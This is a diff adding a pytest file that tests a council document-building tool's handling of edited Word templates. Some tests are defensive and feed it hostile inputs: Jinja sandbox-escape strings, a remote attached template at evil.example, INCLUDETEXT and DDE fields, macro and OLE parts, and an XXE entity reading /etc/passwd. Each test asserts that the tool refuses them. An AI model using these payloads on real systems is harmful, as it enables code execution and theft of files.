@@ -1,0 +1,251 @@
+"""Templates as councils change them in Word, each change made to a real template with python-docx."""
+
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+
+import docx
+import pytest
+from docx.document import Document
+from docx.text.paragraph import Paragraph
+
+from tests.conftest import Room
+from tests.outline import read_outline
+
+MATTER = """\
+title: Street Trees
+scrutiny: {body: Scrutiny Committee, date: 2026-03-03}
+recommendations: [That the Council plants a hundred trees.]
+"""
+SHEET = (
+    "[Responses]\nNo. | Recommendation | Agree? | Comment\n1 | That the Council plants a hundred trees. | Yes | ok\n"
+)
+NAME = "draft-response.docx"
+
+
+@pytest.fixture
+def answered(room: Room) -> Room:
+    room.write("data/trees/recommendations.yaml", MATTER)
+    room.draw("data/trees/responses.xlsx", SHEET)
+    return room
+
+
+def change(room: Room, edit: Callable[[Document], None]) -> None:
+    path = room.path / "templates" / NAME
+    document = docx.Document(str(path))
+    edit(document)
+    document.save(str(path))
+
+
+def find(document: Document, text: str) -> Paragraph:
+    """Return the first paragraph that holds the text, those in tables included."""
+    cells = [cell for table in document.tables for row in table.rows for cell in row.cells]
+    paragraphs = [*document.paragraphs, *(paragraph for cell in cells for paragraph in cell.paragraphs)]
+    return next(paragraph for paragraph in paragraphs if text in paragraph.text)
+
+
+def replace(text: str, by: str) -> Callable[[Document], None]:
+    def edit(document: Document) -> None:
+        paragraph = find(document, text)
+        for run in paragraph.runs[1:]:
+            run.text = ""
+        paragraph.runs[0].text = paragraph.text.replace(text, by)
+
+    return edit
+
+
+def built(room: Room) -> str:
+    result = room.papers("build")
+    assert result.exit_code == 0, result.stderr
+    (name,) = room.documents()
+    return read_outline(room.path / "output" / name)
+
+
+def found(room: Room) -> str:
+    """Return what is said of a template that cannot be used; nothing is written."""
+    result = room.papers("build")
+    assert result.exit_code == 1
+    assert room.documents() == []
+    return result.stderr
+
+
+def test_wording_is_changed_in_word_alone(answered: Room) -> None:
+    change(answered, replace("Agree?", "Decision"))
+    outline = built(answered)
+    assert "| Decision" in outline
+    assert "Agree?" not in outline
+
+
+def test_a_placeholder_that_word_split_over_runs(answered: Room) -> None:
+    """Word parts the runs of a placeholder at every correction and spelling mark."""
+
+    def edit(document: Document) -> None:
+        for text in ("{{ topic.date }}", "{{ row.number }}", "{{p row.comment }}"):
+            paragraph = find(document, text)
+            whole = paragraph.text
+            for run in paragraph.runs[1:]:
+                run.text = ""
+            paragraph.runs[0].text = whole[0]
+            for letter in whole[1:]:
+                paragraph.add_run(letter)
+
+    change(answered, edit)
+    outline = built(answered)
+    assert "on 03 March 2026 concerning" in outline
+    assert "| 1. That the Council plants a hundred trees." in outline
+    assert "| ok" in outline
+
+
+def test_the_look_of_a_placeholder_is_the_look_of_what_replaces_it(answered: Room) -> None:
+    def edit(document: Document) -> None:
+        find(document, "{{p row.comment }}").runs[0].italic = True
+
+    change(answered, edit)
+    assert "| __ok__" in built(answered)
+
+
+def test_words_around_prose_stay(answered: Room) -> None:
+    change(answered, replace("{{p row.comment }}", "Reply: {{p row.comment }} (end)"))
+    assert "| Reply: ok (end)" in built(answered)
+
+
+def test_columns_may_be_moved(answered: Room) -> None:
+    def edit(document: Document) -> None:
+        table = document.tables[0]
+        for at in (0, 2):
+            cells = table.rows[at]._tr.tc_lst
+            cells[0].addprevious(cells[2])
+
+    change(answered, edit)
+    outline = built(answered)
+    assert outline.index("| ok") < outline.index("| 1. That the Council")
+
+
+def test_a_misspelt_placeholder_is_named_at_its_place(answered: Room) -> None:
+    """Shown as "TPL003"."""
+    change(answered, replace("{{p row.comment }}", "{{p row.coment }}"))
+    message = found(answered)
+    assert (
+        "templates/draft-response.docx: error TPL003: {{p row.coment }} in table 1, row 3, column 3 "
+        '("Comment"): "coment" is not known here\n    hint: did you mean "comment"?\n'
+    ) in message
+
+
+def test_all_faults_of_a_template_are_found_in_one_run(answered: Room) -> None:
+    change(answered, replace("{{ topic.date }}", "{{ topic.dat }} {{ nobody }} {% if topic.boddy %}x{% endif %}"))
+    message = found(answered)
+    assert message.count("error TPL003") == 3
+    assert 'in the text, near "' in message
+
+
+@pytest.mark.parametrize(
+    ("typed", "said"),
+    [
+        ("{{ topic.date", "its brackets do not close"),
+        ("{{ topic.date | }}", "error TPL004"),
+        ("{% if topic.date %}", "the placeholders do not fit together"),
+        ("{{ topic.date|nofilter }}", "error TPL004"),
+    ],
+)
+def test_a_placeholder_that_cannot_be_read(answered: Room, typed: str, said: str) -> None:
+    """Shown as "TPL004"."""
+    change(answered, replace("{{ topic.date }}", typed))
+    message = found(answered)
+    assert "error TPL004" in message
+    assert said in message
+
+
+@pytest.mark.parametrize(
+    "attack",
+    ["{{ ''.__class__.__mro__ }}", "{{ topics.append(1) }}", "{{ title.format.__globals__ }}",
+     "{{ cycler.__init__.__globals__ }}"],
+)  # fmt: skip
+def test_a_template_is_a_sandbox(answered: Room, attack: str) -> None:
+    change(answered, replace("{{ topic.date }}", attack))
+    assert "error TPL004" in found(answered)
+
+
+def test_a_placeholder_that_was_deleted_fails_the_build(answered: Room) -> None:
+    """Shown as "OUT002": the template prints no comments any more."""
+    change(answered, replace("{{p row.comment }}", "See the minutes."))
+    message = found(answered)
+    assert 'OUT002: the paragraph "ok" of recommendation 1 is not in the finished document' in message
+
+
+def test_a_missing_template(answered: Room) -> None:
+    """Shown as "TPL001"."""
+    (answered.path / "templates" / NAME).unlink()
+    assert "templates/draft-response.docx: error TPL001: the template is missing" in found(answered)
+
+
+def test_a_template_that_is_no_word_document(answered: Room) -> None:
+    """Shown as "TPL002"."""
+    answered.write(f"templates/{NAME}", "Dear all")
+    assert "error TPL002: the template cannot be used: it is not a Word document (.docx)" in found(answered)
+
+
+def test_a_style_that_was_deleted(answered: Room) -> None:
+    """Shown as "TPL006"."""
+    change(answered, lambda document: document.styles["List Bullet"].delete())
+    assert 'error TPL006: the style "List Bullet" is missing' in found(answered)
+
+
+def repack(path: Path, edit: Callable[[dict[str, bytes]], None]) -> None:
+    with zipfile.ZipFile(path) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    edit(parts)
+    with zipfile.ZipFile(path, "w") as package:
+        for name, content in parts.items():
+            package.writestr(name, content)
+
+
+def add_macro(parts: dict[str, bytes]) -> None:
+    parts["word/vbaProject.bin"] = b"macro"
+
+
+def add_outside_template(parts: dict[str, bytes]) -> None:
+    parts["word/_rels/settings.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
+    )
+
+
+def add_include(parts: dict[str, bytes]) -> None:
+    field = b'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;c:/secret.docx&quot; "/></w:p>'
+    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)
+
+
+def add_split_include(parts: dict[str, bytes]) -> None:
+    field = b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:/x</w:instrText></w:r></w:p>"
+    parts["word/document.xml"] = parts["word/document.xml"].replace(b"<w:body>", b"<w:body>" + field)
+
+
+def add_embedding(parts: dict[str, bytes]) -> None:
+    parts["word/embeddings/oleObject1.bin"] = b"ole"
+
+
+@pytest.mark.parametrize("add", [add_macro, add_outside_template, add_include, add_split_include, add_embedding])
+def test_what_reaches_outside_is_refused(answered: Room, add: Callable[[dict[str, bytes]], None]) -> None:
+    """Shown as "TPL005"."""
+    repack(answered.path / "templates" / NAME, add)
+    assert "error TPL005: the template holds " in found(answered)
+
+
+def test_a_document_type_is_refused(answered: Room) -> None:
+    def edit(parts: dict[str, bytes]) -> None:
+        head, _, body = parts["word/document.xml"].partition(b"?>")
+        parts["word/document.xml"] = head + b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body
+
+    repack(answered.path / "templates" / NAME, edit)
+    assert "error TPL002" in found(answered)
+
+
+def test_the_shipped_templates_are_those_that_are_drawn() -> None:
+    """tools/draw_templates.py is where the shipped set is changed; a council changes its own copy in Word."""
+    from tools.draw_templates import TEMPLATES, draw
+
+    drawn = draw()
+    assert len(drawn) == 4
+    for name, content in drawn.items():
+        assert (TEMPLATES / name).read_bytes() == content, f"run tools/draw_templates.py: {name} is out of step"
